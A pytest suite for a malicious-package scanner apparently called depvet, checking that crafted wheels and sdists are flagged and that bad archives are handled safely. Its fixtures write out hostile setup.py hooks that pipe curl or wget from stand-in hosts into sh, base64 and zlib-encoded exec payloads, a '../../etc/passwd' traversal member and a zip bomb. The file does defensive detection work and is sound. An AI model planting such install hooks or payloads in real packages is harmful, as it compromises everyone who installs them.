"""The pipeline end to end: artifacts in, verdicts out, cache and limits honoured."""

from __future__ import annotations

import ast
import base64
import gc
import os
import signal
import time
import zlib
from collections.abc import Iterable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from depvet import scan as scan_module
from depvet.detectors import registry
from depvet.files import FileRole, FileView
from depvet.limits import Limits, MiB
from depvet.model import (
    Finding,
    Rule,
    RuleKind,
    ScanResult,
    Scope,
    Severity,
    Target,
    TargetKind,
    Verdict,
)
from depvet.scan import ScanOptions, SeenFiles, _run_detectors, scan
from depvet.sources.paths import PathSource
from tests.builders import LITELLM_PTH_LINE, make_sdist, make_wheel, write_tar, write_zip

CLEAN_FILES = {
    "litellm/__init__.py": "from litellm.main import completion\n",
    "litellm/main.py": "import os\n\ndef completion(model):\n    return os.environ.get('KEY')\n",
}


def targets_for(*paths: Path) -> list[Target]:
    return [t for p in paths for t in PathSource(given=str(p)).targets()]


def run(*paths: Path, **options: object) -> list[ScanResult]:
    opts = ScanOptions(jobs=1, cache_dir=None, **options)  # type: ignore[arg-type]
    results, _, _ = scan(targets_for(*paths), opts)
    return results


def test_litellm_replica_is_malicious_and_clean_twin_is_clean(tmp_path: Path) -> None:
    bad = make_wheel(
        tmp_path, "litellm", "1.82.8", {**CLEAN_FILES, "litellm_init.pth": LITELLM_PTH_LINE}
    )
    twin_dir = tmp_path / "twin"
    twin_dir.mkdir()
    good = make_wheel(twin_dir, "litellm", "1.82.6", CLEAN_FILES)
    bad_result, good_result = run(bad, good)
    assert bad_result.verdict is Verdict.MALICIOUS
    assert (bad_result.name, bad_result.version) == ("litellm", "1.82.8")
    assert "pth-dangerous-code" in bad_result.decided_by
    (finding,) = [f for f in bad_result.findings if f.rule == "pth-dangerous-code"]
    assert finding.path == "litellm_init.pth" and finding.line == 1
    assert good_result.verdict is Verdict.CLEAN
    assert good_result.findings == ()


def test_setup_hook_sdist_is_malicious(tmp_path: Path) -> None:
    setup = (
        "import os\nfrom setuptools import setup\n"
        "os.system('curl -s https://payload.example.invalid/x | sh')\n"
        "setup(name='demo', version='1.0')\n"
    )
    sdist = make_sdist(tmp_path, "demo", "1.0", {"setup.py": setup})
    (result,) = run(sdist)
    assert result.verdict is Verdict.MALICIOUS
    assert any(f.path == "demo-1.0/setup.py" for f in result.findings)


def test_a_test_suites_fixture_wheel_is_not_the_package(tmp_path: Path) -> None:
    # A package manager's tests install other projects' wheels; one of them runs a
    # download at import. Shipped in tests/ it is test data; shipped beside the
    # package's code, where the build may install it, it is judged as code.
    fixture = make_wheel(
        tmp_path,
        "dep",
        "1.0",
        {"dep/__init__.py": "import os\nos.system('curl -s https://x.example.invalid | sh')\n"},
    )
    data = fixture.read_bytes()
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    in_tests = make_sdist(
        tmp_path / "a", "tool", "1.0", {"tests/fixtures/dep-1.0-py3-none-any.whl": data}
    )
    vendored = make_sdist(tmp_path / "b", "tool", "1.0", {"vendor/dep-1.0-py3-none-any.whl": data})
    tests_result, vendored_result = run(in_tests, vendored)
    assert tests_result.verdict is Verdict.CLEAN
    assert vendored_result.verdict is Verdict.MALICIOUS
    assert any("!/dep/__init__.py" in f.path for f in vendored_result.findings)


def test_python2_setup_is_still_scanned(tmp_path: Path) -> None:
    setup = (
        "import os\nprint 'installing'\n"
        "os.system('wget http://payload.example.invalid/a -O /tmp/a; sh /tmp/a')\n"
    )
    (result,) = run(make_sdist(tmp_path, "old", "0.1", {"setup.py": setup}))
    assert result.verdict is not Verdict.CLEAN
    assert result.findings


def test_bad_inputs_do_not_affect_the_others(tmp_path: Path) -> None:
    good = make_wheel(tmp_path, "good", "1.0", CLEAN_FILES)
    truncated = tmp_path / "trunc-1.0.tar.gz"
    whole = write_tar(
        tmp_path / "whole.tar.gz",
        {f"trunc-1.0/m{i}.py": os.urandom(4000) for i in range(10)},
    )
    truncated.write_bytes(whole.read_bytes()[:20000])
    whole.unlink()
    empty = tmp_path / "empty-1.0.tar.gz"
    empty.write_bytes(b"")
    hostile = write_tar(
        tmp_path / "hostile-1.0.tar.gz",
        {"../../etc/passwd": b"x", "hostile-1.0/\x1b[31mname\n.py": b"\xff\xfe\x00 not utf-8"},
    )
    bomb = tmp_path / "bomb-1.0.zip"
    write_zip(bomb, {"bomb/zeros": b"\0" * (4 * MiB), "bomb/ok.py": b"x = 1\n"})
    limits = Limits(ratio_floor=1 * MiB, max_ratio=100)
    results = {r.name: r for r in run(good, truncated, empty, hostile, bomb, limits=limits)}
    assert results["good"].verdict is Verdict.CLEAN and not results["good"].errors
    assert results["trunc"].errors[-1].reference == "artifact-unreadable"
    assert results["trunc"].files > 0  # read as far as it goes
    assert results["empty"].verdict is Verdict.ERROR
    assert "empty file" in results["empty"].errors[0].message
    assert {e.reference for e in results["hostile"].errors} == {"unsafe-member"}
    assert results["hostile"].files == 2
    assert results["bomb"].files == 1
    assert any("ratio" in e.message for e in results["bomb"].errors)


def test_huge_one_line_python_file_is_scanned_in_bounded_time(tmp_path: Path) -> None:
    blob = base64.b64encode(os.urandom(37 * MiB))  # a 50 MB one-line payload, as droppers ship
    line = b"import base64\nexec(base64.b64decode('" + blob + b"'))\n"
    sdist = make_sdist(tmp_path, "huge", "1.0", {"setup.py": line})
    started = time.monotonic()
    (result,) = run(sdist)
    assert time.monotonic() - started < 60
    assert result.files == 2 and result.verdict is not Verdict.ERROR


class Spinner:
    """A detector that never finishes, to exercise the per-file time budget."""

    rules: tuple[Rule, ...] = ()

    def wants(self, file: FileView) -> bool:
        return True

    def scan(self, file: FileView) -> Iterable[Finding]:
        while True:
            time.sleep(0.01)


def test_per_file_time_budget() -> None:
    view = FileView(path="x.py", role=FileRole.PYTHON, data=b"x = 1\n")
    started = time.monotonic()
    findings, error = _run_detectors(view, [Spinner()], 0.2)
    assert time.monotonic() - started < 5
    assert findings == []
    assert error is not None and error.reference == "file-timeout" and error.path == "x.py"


def test_detectors_of_a_file_share_one_parse(monkeypatch: pytest.MonkeyPatch) -> None:
    hidden = base64.b64encode(b"import os\nos.system('true')\n").decode()
    setup = (
        "import base64, os\nfrom setuptools import setup\n"
        f"exec(base64.b64decode('{hidden}'))\n"
        "os.system('curl -s https://payload.example.invalid/a | sh')\n"
        "setup(name='demo', version='1.0')\n"
    )
    view = FileView(path="setup.py", role=FileRole.SETUP, data=setup.encode())
    wanted = [d for d in registry.detectors() if d.wants(view)]
    parsed: list[str] = []
    real_parse = ast.parse

    def counting_parse(source: str, *args: Any, **kwargs: Any) -> Any:
        parsed.append(source)
        return real_parse(source, *args, **kwargs)

    monkeypatch.setattr(ast, "parse", counting_parse)
    alone = [f for d in wanted for f in d.scan(view)]  # each detector on its own
    assert parsed.count(setup) >= 3
    parsed.clear()
    findings, error = _run_detectors(view, wanted, 10.0)
    assert error is None
    assert parsed.count(setup) == 1
    assert {"setup-install-shell-download", "encoded-python-payload"} <= {f.rule for f in alone}
    assert set(alone) <= set(findings)
    assert any("in code decoded by" in f.message for f in findings)


def test_a_file_repeated_across_packages_is_scanned_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    module = (
        "import subprocess\n"
        "subprocess.Popen(['sh', '-c', 'curl -s https://a.example.invalid | sh'])\n"
    )
    for version in ("1.0", "1.1"):
        make_wheel(tmp_path, "demo", version, {"demo/__init__.py": module, "demo/run.py": module})
    scanned: list[str] = []
    real_run = scan_module._run_detectors

    def counting_run(view: FileView, *args: Any) -> Any:
        scanned.append(view.path)
        return real_run(view, *args)

    monkeypatch.setattr(scan_module, "_run_detectors", counting_run)
    first, second = run(*sorted(tmp_path.glob("*.whl")))
    # The same bytes under another name are scanned again: names matter to some rules.
    assert scanned.count("demo/__init__.py") == 1 and scanned.count("demo/run.py") == 1
    assert first.findings and first.findings == second.findings
    assert {f.path for f in first.findings if f.rule.startswith("import-")} == {
        "demo/__init__.py",
        "demo/run.py",
    }


def test_seen_files_place_findings_at_the_new_path() -> None:
    seen = SeenFiles(size=2)
    view = FileView(path="a/x.py", role=FileRole.PYTHON, data=b"x = 1\n")
    finding = Finding(
        rule="r",
        severity=Severity.LOW,
        kind=RuleKind.CAPABILITY,
        path="a/x.py",
        line=1,
        message="m",
        evidence="e",
        scope=Scope.IMPORT,
    )
    elsewhere = replace(finding, path="a/other.py")
    key = seen.key(view, b"digest", [])
    assert seen.get(key, "b/x.py") is None
    seen.put(key, "a/x.py", [finding, elsewhere])
    assert seen.get(key, "b/x.py") == [replace(finding, path="b/x.py"), elsewhere]
    seen.put(seen.key(view, b"other", []), "a/x.py", [])
    seen.put(seen.key(view, b"third", []), "a/x.py", [])
    assert seen.get(key, "b/x.py") is None  # the oldest went beyond the size


def test_fewer_collections_restores_the_collector() -> None:
    before = gc.get_threshold()
    assert gc.get_freeze_count() == 0
    with scan_module.fewer_collections():
        assert gc.get_threshold()[0] == scan_module.COLLECT_AFTER
        assert gc.get_freeze_count() > 0  # what existed is left alone
        cycle: list[object] = []
        cycle.append(cycle)
        del cycle
        assert gc.collect() >= 1  # garbage made inside is still collected
    assert gc.get_threshold() == before
    assert gc.get_freeze_count() == 0


def test_fewer_collections_keep_what_the_process_froze_frozen() -> None:
    gc.freeze()
    try:
        frozen = gc.get_freeze_count()
        with scan_module.fewer_collections():
            assert gc.get_freeze_count() == frozen
        assert gc.get_freeze_count() == frozen
    finally:
        gc.unfreeze()


def snapshot(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*")}


def test_cache_hits_on_second_scan_and_nothing_written_elsewhere(tmp_path: Path) -> None:
    work = tmp_path / "work"
    work.mkdir()
    make_wheel(work, "litellm", "1.82.8", {**CLEAN_FILES, "litellm_init.pth": LITELLM_PTH_LINE})
    make_sdist(work, "demo", "1.0", {"setup.py": "from setuptools import setup\nsetup()\n"})
    before = snapshot(work)
    cache_dir = tmp_path / "cache"
    options = ScanOptions(jobs=1, cache_dir=cache_dir)
    first, summary1, _ = scan(targets_for(work), options)
    second, summary2, _ = scan(targets_for(work), options)
    assert snapshot(work) == before
    assert summary1.cached_files == 0 and summary2.cached_files > 0
    assert [r.findings for r in first] == [r.findings for r in second]
    assert [r.verdict for r in first] == [r.verdict for r in second]
    assert list(cache_dir.iterdir())


def test_parallel_and_serial_agree(tmp_path: Path) -> None:
    make_wheel(tmp_path, "litellm", "1.82.8", {**CLEAN_FILES, "litellm_init.pth": LITELLM_PTH_LINE})
    for i in range(4):
        make_sdist(tmp_path, f"pkg{i}", "1.0", {"setup.py": "from setuptools import setup\n"})
    targets = targets_for(tmp_path)
    serial, _, _ = scan(targets, ScanOptions(jobs=1))
    parallel, summary, _ = scan(targets, ScanOptions(jobs=2))
    assert serial == parallel
    assert summary.by_verdict["malicious"] == 1 and summary.by_verdict["clean"] == 4


def test_parallel_scan_starts_the_largest_files_first(tmp_path: Path) -> None:
    sizes = {"small.whl": 10, "large.tar.gz": 3000, "middle.zip": 500}
    for name, size in sizes.items():
        (tmp_path / name).write_bytes(b"x" * size)
    targets = [Target(kind=TargetKind.FILE, path=tmp_path / name, display=name) for name in sizes]
    site = Target(kind=TargetKind.INSTALLED, path=tmp_path / "a.dist-info", display="a")
    gone = Target(kind=TargetKind.FILE, path=tmp_path / "gone.whl", display="gone")
    order = scan_module.largest_first([site, *targets, gone])
    assert order == [2, 3, 1, 0, 4]


def test_findings_inside_decoded_layers_point_at_the_blob(tmp_path: Path) -> None:
    hidden = "import os\nos.system('curl -s https://payload.example.invalid/a | sh')\n"
    blob = base64.b64encode(zlib.compress(hidden.encode())).decode()
    setup = (
        "import base64, zlib\nfrom setuptools import setup\n\n"
        f"exec(zlib.decompress(base64.b64decode('{blob}')))\n"
        "setup(name='demo', version='1.0')\n"
    )
    (result,) = run(make_sdist(tmp_path, "demo", "1.0", {"setup.py": setup}))
    decoded = [f for f in result.findings if "in code decoded by" in f.message]
    assert decoded, result.findings
    assert {f.line for f in decoded} == {4}
    assert any(f.rule == "setup-install-shell-download" for f in decoded)
    assert "base64 → zlib" in decoded[0].message
    assert result.verdict is Verdict.MALICIOUS


def test_the_cache_key_holds_the_file_name() -> None:
    from depvet.cache import cache_key

    same_bytes = "ab" * 32
    assert cache_key(same_bytes, "python", "r1", "x.py") != cache_key(
        same_bytes, "python", "r1", "__main__.py"
    )


def test_time_budget_inside_one_package_handler() -> None:
    view = FileView(path="x.py", role=FileRole.PYTHON, data=b"x = 1\n")
    before = signal.getsignal(signal.SIGALRM)
    with scan_module.alarm_handler():
        findings, error = _run_detectors(view, [Spinner()], 0.2)
        assert findings == []
        assert error is not None and error.reference == "file-timeout"
        # The next file gets its own budget, under the same handler.
        _, error = _run_detectors(view, registry.detectors(), 5.0)
        assert error is None
    assert signal.getsignal(signal.SIGALRM) == before
    assert signal.getitimer(signal.ITIMER_REAL) == (0.0, 0.0)
